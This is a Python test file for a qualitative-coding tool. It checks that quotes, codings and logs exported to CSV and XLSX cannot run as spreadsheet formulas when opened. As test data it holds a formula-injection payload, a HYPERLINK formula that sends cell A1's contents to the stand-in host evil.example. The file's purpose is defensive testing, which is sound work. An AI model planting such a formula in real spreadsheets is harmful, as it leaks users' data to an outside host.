"""Spreadsheet formula (CSV) injection: a transcript's text never becomes a live formula.

A quote that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab) is run as a formula by
Excel and LibreOffice when it opens a CSV file: "- well, I think" turns into ``#NAME?``,
and an untrusted transcript could carry a ``=HYPERLINK(...)``. CSV cells of text get a
``'`` in front (OWASP), numbers never; qcahp takes the ``'`` off again when it reads
its own CSV back. XLSX cells of text are strings (inline strings), never formulas.
"""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from qualcoder_ahp.cli import cli
from qualcoder_ahp.importers.participants import read_participants_csv
from qualcoder_ahp.model.store import open_store
from qualcoder_ahp.records import Codebook, Theme
from qualcoder_ahp.reports.writers import Sheet, csv_cell, csv_records, csv_unquote, to_csv
from tests.conftest import make_parsed

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
DASH = "- well, I think it was luck"
HOSTILE = [LINK, DASH, "+44 is what they dialled", "@everyone knew it", "\tindented",
           "'=already quoted", "''-twice"]


def _sentences():
    return [f"{LINK}.", f"{DASH}.", "+44 is what they dialled.",
            "@everyone knew it.", "Nothing odd here at all."]


@pytest.fixture
def project(tmp_path):
    """A project whose participant sentences start with =, -, + and @, coded by two coders."""
    path = tmp_path / "inj.db"
    store = open_store(path)
    store.save_codebook(Codebook("t", (Theme("luck", "Luck"), Theme("-odd", "=Odd theme"))))
    info, _ = store.add_transcript("-p01", make_parsed([
        ("Interviewer", "interviewer", "Tell me how it began."),
        ("P01", "participant", " ".join(_sentences()))]))
    text = store.transcript_text(info.id)
    for n, sentence in enumerate(_sentences()[:4]):
        start = text.index(sentence)
        end = start + len(sentence) - 1  # without the full stop
        store.code(info.id, "luck", "alice", start, end)
        if n % 2:
            store.code(info.id, "-odd", "bob", start, end)
    store.close()
    return path


def run(db, *args):
    result = CliRunner().invoke(cli, ["--db", str(db), *args])
    assert result.exit_code == 0, (result.output, result.exception)
    return result


def _csv(path):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_a_csv_cell_that_would_start_a_formula_is_quoted_and_unquoted_exactly():
    for text in HOSTILE:
        safe = csv_cell(text)
        assert safe.startswith("'") and csv_unquote(safe) == text
    for text in ["plain", "", "it's fine", "'quoted but harmless", "-0.25", "+3", "1e-05",
                 "-12", "'-5"]:
        assert csv_cell(text) == text and csv_unquote(text) == text
    for number in (-0.25, -3, 0, 2.5, True, None):
        assert csv_cell(number) == number  # numbers are never touched


def test_to_csv_quotes_text_but_never_numbers():
    sheet = Sheet("s", ["word", "log_ratio", "as_text"],
                  [[DASH, -0.25, "-0.250"], ["=1+1", -3, "-inf"], ["fine", float("-inf"), ""]])
    rows = list(csv.reader(io.StringIO(to_csv(sheet))))
    assert rows[1] == ["'" + DASH, "-0.25", "-0.250"]
    assert rows[2] == ["'=1+1", "-3", "'-inf"]  # "-inf" as text is no number
    assert rows[3] == ["fine", "-inf", ""]  # the float keeps its value
    records = csv_records(["a", "b"], [{"a": LINK, "b": -0.123456789}, {"a": "x"}])
    assert list(csv.reader(io.StringIO(records)))[1:] == [["'" + LINK, "-0.123456789"],
                                                           ["x", ""]]


def test_quotes_csv_and_xlsx_keep_hostile_text_inert_and_exact(project, tmp_path):
    run(project, "quotes", "-o", str(tmp_path / "q.csv"))
    quotes = {r["quote"] for r in _csv(tmp_path / "q.csv")}
    assert {"'" + LINK, "'" + DASH, "'+44 is what they dialled", "'@everyone knew it"} <= quotes
    assert not any(q[:1] in "=+-@" for q in quotes)
    rows = _csv(tmp_path / "q.csv")
    assert {r["transcript"] for r in rows} == {"'-p01"}
    run(project, "quotes", "-o", str(tmp_path / "q.xlsx"))
    sheet = load_workbook(tmp_path / "q.xlsx").worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("quote")] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} >= {LINK, DASH, "+44 is what they dialled"}
    assert all(c.data_type == "s" for c in cells)  # strings, never formulas ("f")
    names = [row[header.index("transcript")] for row in sheet.iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in names} == {("-p01", "s")}


def test_counts_and_agreement_csv_keep_numbers_numeric(project, tmp_path):
    run(project, "counts", "--by", "transcript", "-o", str(tmp_path / "c.csv"))
    rows = _csv(tmp_path / "c.csv")
    assert {r["theme"] for r in rows} >= {"'-odd", "luck"}
    assert all(not r["codings"].startswith("'") for r in rows)
    run(project, "agreement", "--coders", "alice,bob", "--format", "csv",
        "--speakers", "all", "-o", str(tmp_path / "a.csv"))  # the figures of every speaker
    rows = _csv(tmp_path / "a.csv")
    assert {r["theme"] for r in rows} >= {"luck", "'-odd"}
    assert {r["theme_name"] for r in rows} >= {"Luck", "'=Odd theme"}
    numbers = [float(r["scott_pi"]) for r in rows]  # a coefficient stays a number
    assert min(numbers) < 0 and "-0.513274" in (tmp_path / "a.csv").read_text()


def test_codings_export_import_round_trip_is_exact(project, tmp_path):
    out = tmp_path / "alice.csv"
    run(project, "codings", "export", "--coder", "alice", "-o", str(out))
    rows = _csv(out)
    assert {r["quote"] for r in rows} >= {"'" + LINK, "'" + DASH}
    assert {r["transcript"] for r in rows} == {"'-p01"}
    run(project, "codings", "import", str(out), "--coder", "carol")
    store = open_store(project)
    try:
        mine = sorted((c.theme_id, c.start, c.end, c.quote) for c in store.codings(coder="alice"))
        theirs = sorted((c.theme_id, c.start, c.end, c.quote)
                        for c in store.codings(coder="carol"))
        assert theirs == mine and any(q == LINK for *_, q in mine)
    finally:
        store.close()
    # bob's codings are of the theme "-odd": its id is quoted too, and comes back
    run(project, "codings", "export", "--coder", "bob", "-o", str(tmp_path / "bob.csv"))
    assert {r["theme"] for r in _csv(tmp_path / "bob.csv")} == {"'-odd"}
    result = run(project, "codings", "import", str(tmp_path / "bob.csv"), "--coder", "dan")
    assert "Imported 2 codings" in result.output


def test_a_hand_made_codings_csv_with_the_text_unquoted_still_imports(project, tmp_path):
    """A file not made by qcahp holds the quote as it is: it is matched as well."""
    store = open_store(project)
    try:
        coding = next(c for c in store.codings(coder="alice") if c.quote == DASH)
    finally:
        store.close()
    path = tmp_path / "hand.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["transcript", "theme", "start", "end", "quote"],
                                      ["-p01", "luck", coding.start, coding.end, DASH]])
    assert "Imported 1 coding" in run(project, "codings", "import", str(path),
                                      "--coder", "erin").output


def test_participants_csv_takes_the_added_quote_off(tmp_path):
    path = tmp_path / "participants.csv"
    path.write_text("participant,profession,note\n'-p01,physio,'=not a formula\n"
                    "p02,'+44 7700,'it's fine\n'@p03,'+44,x\n", encoding="utf-8")
    assert read_participants_csv(path) == {
        "-p01": {"profession": "physio", "note": "=not a formula"},
        "p02": {"profession": "+44 7700", "note": "'it's fine"},
        "@p03": {"profession": "'+44", "note": "x"}}  # a number: no ' was added to it


def test_reconcile_log_csv_quotes_hostile_text(project, tmp_path):
    """The reconcile log wrote its CSV by itself, past the report writer: a consensus
    coding of "=HYPERLINK(...)" became a live formula there."""
    store = open_store(project)
    try:
        info = store.transcript("-p01")
        start = store.transcript_text(info.id).index(LINK)
        store.code(info.id, "-odd", "consensus", start, start + len(LINK))
    finally:
        store.close()
    run(project, "reconcile", "log", "-o", str(tmp_path / "r.csv"))
    [row] = _csv(tmp_path / "r.csv")
    assert row["quote"] == "'" + LINK and row["theme_name"] == "'=Odd theme"
    assert row["transcript"] == "'-p01"
